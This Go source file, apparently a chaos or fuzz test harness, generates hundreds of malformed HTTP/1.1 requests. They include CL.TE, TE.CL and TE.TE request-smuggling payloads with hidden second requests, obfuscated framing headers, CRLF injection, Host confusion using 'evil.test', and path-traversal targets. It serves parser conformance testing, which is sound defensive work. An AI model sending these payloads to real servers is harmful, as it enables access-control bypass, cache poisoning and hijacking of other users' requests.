//go:build chaos

package chaos

import (
	"fmt"
	"strings"
)

// An attack is what one caller writes, in one go: a request that two readers may
// frame differently, and often a second one hidden in it. {A}, {S} and {M} stand
// for the targets of the attack, of what it hides and of the well-formed request
// that follows; {H} for the authority, {D} for the origin's own URL.
type attack struct {
	family, raw string
}

const (
	hidden = "GET {S} HTTP/1.1\r\nHost: {H}\r\n\r\n"
	marker = "GET {M} HTTP/1.1\r\nHost: {H}\r\nConnection: close\r\n\r\n"
)

// attacks returns the families of RFC 9112: §2.2 line ends, §3 request line and
// target, §5.1 and §5.2 field lines, §6 framing, §7 chunked, §9 connection, §11.2
// request smuggling.
func attacks() []attack {
	var all []attack
	add := func(family, format string, args ...any) {
		all = append(all, attack{family, fmt.Sprintf(format, args...) + marker})
	}
	post := "POST {A} HTTP/1.1\r\nHost: {H}\r\n"

	// The two classic confusions, for each way to write the one field that
	// decides: who believes Content-Length and who believes Transfer-Encoding
	// end this request at different bytes.
	codings := []string{
		"Transfer-Encoding: chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked",
		"Transfer-Encoding\t: chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
		"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", "Transfer-Encoding:\tchunked",
		" Transfer-Encoding: chunked", "X: X\n Transfer-Encoding: chunked", "X: X\nTransfer-Encoding: chunked",
		"X: X\rTransfer-Encoding: chunked", "Transfer-Encoding\r\n : chunked", "Transfer-Encoding:\r\n chunked",
		"Transfer-Encoding: \x0bchunked", "Transfer-Encoding: \x0cchunked", "Transfer-Encoding: \x00chunked",
		"Transfer-Encoding: chunked\x00", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'",
		"Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: identity",
		"Transfer-Encoding: chunked;q=1", "Transfer-Encoding: chunked;", "Transfer-Encoding: ,chunked",
		"Transfer-Encoding: chunked,", "Transfer-Encoding: Chunked", "Transfer-Encoding: CHUNKED",
		"transfer-encoding: cHuNkEd", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: gzip, chunked",
		"Transfer-Encoding: chunked, gzip", "Transfer-Encoding: chunk", "Transfer-Encoding: chunked ",
		"Transfer-Encoding: chunked\t", "Transfer-Encoding: chunked\r\n ", "Transfer_Encoding: chunked",
		"Transfer-Encoding: \xc3\xa7hunked", "Transfer-Encoding:chunked", "\x01Transfer-Encoding: chunked",
		"Transfer-Encoding\x00: chunked", "Transfer-Encoding: \xa0chunked", "Transfer Encoding: chunked",
		"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: \x85chunked",
		"Content-Encoding: chunked", "X-Transfer-Encoding: chunked", "Transfer-Encoding: chunked\x0b", ": chunked\r\nTransfer-Encoding: chunked",
	}
	for _, coding := range codings {
		// CL.TE: the chunks end early, the length covers the hidden request.
		add("CL.TE", "%sContent-Length: %d\r\n%s\r\n\r\n0\r\n\r\n%s", post, 5+len(hidden)-2, coding, hidden)
		// TE.CL: the length ends early, the chunk holds the hidden request.
		add("TE.CL", "%s%s\r\nContent-Length: 4\r\n\r\n%x\r\n%s\r\n0\r\n\r\n", post, coding, len(hidden), hidden)
		// TE.TE: no length at all.
		add("TE.TE", "%s%s\r\n\r\n0\r\n\r\n%s", post, coding, hidden)
	}

	lengths := []string{
		"Content-Length: +5", "Content-Length: -5", "Content-Length: 0x5", "Content-Length: 5 ", "Content-Length: 5,5",
		"Content-Length: 5, 5", "Content-Length: 5;", "Content-Length: 05", "Content-Length: 5e0", "Content-Length: 5.0",
		"Content-Length:", "Content-Length: \xd9\xa5", "Content-Length: 5\x00", "Content-Length: 5\r\nContent-Length: 6",
		"Content-Length: 5\r\nContent-Length: 5", "Content-Length: 18446744073709551621", "Content-Length: 4294967301",
		"Content-Length: 5 5", "Content-Length:\t5", "Content-Length: 5\x0b", "Content-Length : 5", "Content_Length: 5",
		"Content-Length\t: 5", "Content-Length: 5, 6", "Content-Length: 0\r\nContent-Length: 5", " Content-Length: 5",
		"Content-Length: 5\r\n 0", "Content-Length:\r\n 5", "X: X\nContent-Length: 5", "X: X\rContent-Length: 5",
		"Content-Length: \"5\"", "Content-Length: 5\r\ncontent-length: 5,", "Content-Length\x00: 5", "Content-Length: 9223372036854775808",
		"Content-Length: 0_5", "Content-Length: 0b101", "Content-Length: 0o5",
	}
	for _, length := range lengths {
		add("content length", "%s%s\r\n\r\nhello", post, length)
		add("content length", "%s%s\r\n\r\n%s", post, strings.ReplaceAll(length, "5", fmt.Sprint(len(hidden)-2)), hidden)
		add("content length of a GET", "GET {A} HTTP/1.1\r\nHost: {H}\r\n%s\r\n\r\nhello", length)
	}

	chunked := post + "Transfer-Encoding: chunked\r\n\r\n"
	for _, size := range []string{
		"-1", "+5", "0x5", "5 ", " 5", "5;ext", "5;ext=\"a\r\nb\"", "5;a=b;c", "5 ;ext", "5\t", "00000000000000005", "FFFFFFFFFFFFFFFF",
		"10000000000000005", "8000000000000005", "100000005", "5_0", "5g", "", "5\x00", "5\r", "5;\x00", "5;\r", "5;ext\n", "5,5", "5.0", "0005",
	} {
		add("chunk size", "%s%s\r\nhello\r\n0\r\n\r\n", chunked, size)
		add("chunk size, bare LF", "%s%s\nhello\r\n0\r\n\r\n", chunked, size)
	}
	for _, end := range []string{"\n", "", "XX", "\r", "\n\r", "\r\n\r\n", "X\r\n"} {
		add("end of a chunk", "%s5\r\nhello%s0\r\n\r\n", chunked, end)
		add("end of a chunk", "%s5\r\nhello%s0\r\n\r\n%s", chunked, end, hidden)
	}
	for _, last := range []string{
		"0\r\n\r\n", "0\n\n", "0\r\n\n", "0\n\r\n", "000\r\n\r\n", "0;x\r\n\r\n", "0 \r\n\r\n", "-0\r\n\r\n", "0\r\nX: y\r\n\r\n",
		"0\r\nContent-Length: 60\r\n\r\n", "0\r\nTransfer-Encoding: chunked\r\n\r\n", "0\r\nHost: evil.test\r\n\r\n", "0\r\nConnection: close\r\n\r\n",
		"0\r\n folded: x\r\n\r\n", "0\r\nno colon\r\n\r\n", "0\r\nX : y\r\n\r\n", "0\r\nX: y\rContent-Length: 60\r\n\r\n", "0\r\nX: y\n\n", "0\r\n: y\r\n\r\n",
		"0\r\nX: " + strings.Repeat("y", 9000) + "\r\n\r\n", "0\r\nX: \x00\r\n\r\n",
	} {
		add("last chunk and trailers", "%s5\r\nhello\r\n%s%s", chunked, last, hidden)
		add("last chunk and trailers, announced", "%sTrailer: X, Content-Length\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n%s", post, last)
	}

	for _, line := range []string{
		"X : y", "X\t: y", "X y", ": y", "X\x00: y", "X: y\x00z", "X: y\rz", "X: y\r\n folded", "X: y\r\n\tContent-Length: 60", "\tX: y",
		"X(: y", "X\xff: y", "X: \x7f", "X: y\r\r", "X:: y", "X\r: y", "Content-Length: 0\nTransfer-Encoding: chunked", "X: y\n\nGET {S} HTTP/1.1\r\nHost: {H}",
		"Host : evil.test", "Host: evil.test", " Host: evil.test", "Host\x00: evil.test", "X: \x1b]0;owned\x07",
	} {
		add("field line", "%sContent-Length: 5\r\n%s\r\n\r\nhello", post, line)
		add("first field line", "GET {A} HTTP/1.1\r\n%s\r\nHost: {H}\r\n\r\n", line)
	}
	for _, end := range []string{"\n", "\r", "\r\r\n", "\n\r", "\x0b\r\n", "\x85", " \r\n", "\x00\r\n"} {
		add("line end", "GET {A} HTTP/1.1%sHost: {H}%s%s", end, end, end)
		add("line end of the request line", "GET {A} HTTP/1.1%sHost: {H}\r\n\r\n", end)
		add("empty line before", "%sGET {A} HTTP/1.1\r\nHost: {H}\r\n\r\n", end)
		add("line end of the head", "GET {A} HTTP/1.1\r\nHost: {H}\r\n%s%s", end, hidden)
	}

	for _, target := range []string{
		"{A}#x", "{A} HTTP/1.1\t", "{A}%0d%0aX:%20y", "{A}%0d%0a%0d%0aGET%20{S}%20HTTP/1.1", "{A}?x=%00", "{A}\x00", "{A}\x0b", "{A}\xff", "{A}?\"<>`",
		"/{A}", "//evil.test{A}", "\\\\evil.test{A}", "http://evil.test{A}", "http://user@{H}{A}", "http://{H}@evil.test{A}", "HTTP://{H}{A}",
		"http:/{H}{A}", "http:{A}", "https://{H}{A}", "ftp://{H}{A}", "{H}{A}", "*", "{A};x", "{A}/../x", "{A}/%2e%2e/x", "/.{A}", "/..{A}", "/x/..{A}",
		"http://{H}:0{A}", "http://{H}\t{A}", "http://{H}%00{A}", "http://[::1]{A}", "",
	} {
		add("target", "GET %s HTTP/1.1\r\nHost: {H}\r\n\r\n", target)
	}
	add("target with a space", "GET {A} {S} HTTP/1.1\r\nHost: {H}\r\n\r\n")
	for _, host := range []string{
		"", "Host:\r\n", "Host: {H}\r\nHost: {H}\r\n", "Host: {H}\r\nHost: evil.test\r\n", "Host: evil.test\r\nHost: {H}\r\n", "Host: {H}, evil.test\r\n",
		"Host: {H} evil.test\r\n", "Host: {H}/{S}\r\n", "Host: {H}?x\r\n", "Host: user@{H}\r\n", "Host: {H}:99999\r\n", "Host: {H}:\r\n", "Host: {H}:80x\r\n", "Host: {H}\x00\r\n",
		"Host: {H}.\r\n", "Host: [::1]\r\n", "Host: {H}\r\n evil.test\r\n", "Host: {H}%0d%0a\r\n", "Host: {H}\r\nX-Forwarded-Host: evil.test\r\nForwarded: host=evil.test\r\n",
	} {
		add("host", "GET {A} HTTP/1.1\r\n%s\r\n", host)
		add("host beside an absolute target", "GET {D}{A} HTTP/1.1\r\n%s\r\n", strings.ReplaceAll(host, "{H}", "evil.test"))
	}

	for _, method := range []string{
		"get", "Get", " GET", "GET\t", "G\x00T", "GET,POST", "GE T", "", "GET\r\n", "(GET)", "PRI", "TRACE", "CONNECT", "OPTIONS", "HEAD", "PROPFIND",
		"\xefGET", "\"GET\"", strings.Repeat("M", 200), "POST\x0b", "DEBUG", "SEARCH",
	} {
		add("method", "%s {A} HTTP/1.1\r\nHost: {H}\r\n\r\n", method)
		add("method with content", "%s {A} HTTP/1.1\r\nHost: {H}\r\nContent-Length: %d\r\n\r\n%s", method, len(hidden)-2, hidden)
	}
	for _, version := range []string{
		"HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/1.2", "HTTP/01.1", "HTTP/1.01", "http/1.1", "HTTP/1.1x", "HTTP/1", "HTTP/1.", "HTTP/.1", "HTTP/11", "HTTPS/1.1", "HTTP 1.1",
		"HTTP/1.1 HTTP/1.1", "HTTP/1,1", "HTTP/-1.1", "HTTP/3.0", "XTTP/1.1", "HTTP/1.1\x00", "", "HTTP/18446744073709551617.1",
	} {
		add("version", "GET {A} %s\r\nHost: {H}\r\n\r\n", version)
		add("version and chunks", "POST {A} %s\r\nHost: {H}\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", version, hidden)
		add("version, both framings", "POST {A} %s\r\nHost: {H}\r\nConnection: keep-alive\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n%s", version, hidden)
	}
	add("HTTP/0.9", "GET {A}\r\n")
	add("HTTP/0.9", "GET {A}\n")

	for _, connection := range []string{
		"close, Content-Length", "Content-Length", "Transfer-Encoding", "Host", "keep-alive, Host, Content-Length, Transfer-Encoding", "Content-Type, X-Forwarded-For",
		"\x00", ",", "upgrade", "Upgrade, HTTP2-Settings", "TE", "close, close", "X-PROXY-DESTINATION", "Trailer", "Expect", "Connection", "Content-Length\x0b", "Proxy-Connection",
	} {
		add("connection", "%sConnection: %s\r\nContent-Length: 5\r\n\r\nhello%s", post, connection, hidden)
		add("connection and chunks", "%sConnection: %s\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n%s", post, connection, hidden)
	}
	for _, upgrade := range []string{
		"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
		"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: x",
		"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA",
		"Connection: Upgrade\r\nUpgrade: TLS/1.0, HTTP/1.1", "Connection: Upgrade\r\nUpgrade: x", "Upgrade: websocket", "Connection: Upgrade",
		// With a key, without which haproxy reads no request.
		"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nContent-Length: 5",
		"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nTransfer-Encoding: chunked",
	} {
		add("pipelined after an upgrade", "GET {A} HTTP/1.1\r\nHost: {H}\r\n%s\r\n\r\n%s", upgrade, hidden)
		add("pipelined after an upgrade with content", "%s%s\r\n\r\n5\r\nhello\r\n0\r\n\r\n%s", post, upgrade, hidden)
	}
	for _, expect := range []string{"100-continue", "100-Continue, x", "x", "", "100-continue\r\nExpect: 100-continue", "200-ok", "100-continue\x00", "y100-continue"} {
		add("pipelined after an expectation", "%sExpect: %s\r\nContent-Length: 5\r\n\r\nhello%s", post, expect, hidden)
		add("expectation without content", "GET {A} HTTP/1.1\r\nHost: {H}\r\nExpect: %s\r\n\r\n%s", expect, hidden)
		add("expectation and a short length", "HEAD {A} HTTP/1.1\r\nHost: {H}\r\nExpect: %s\r\nContent-Length: 4\r\n\r\n%s", expect, hidden)
	}
	for _, field := range []string{
		"X-HTTP-Method-Override: DELETE", "X-Original-URL: {S}", "X-Rewrite-URL: {S}", "TE: chunked", "TE: trailers, chunked", "Keep-Alive: timeout=5",
		"Proxy-Connection: keep-alive", "X-PROXY-CLIENT: nobody", "Trailer: Transfer-Encoding", "Content-Length: 0\r\nX-Y: \r\nContent-Length: 0",
	} {
		add("field that somebody acts on", "GET {A} HTTP/1.1\r\nHost: {H}\r\n%s\r\n\r\n", field)
	}
	for _, n := range []int{2, 10, 50} {
		add("well-formed, pipelined", "%s", strings.Repeat("GET {A} HTTP/1.1\r\nHost: {H}\r\n\r\n", n))
	}
	return all
}
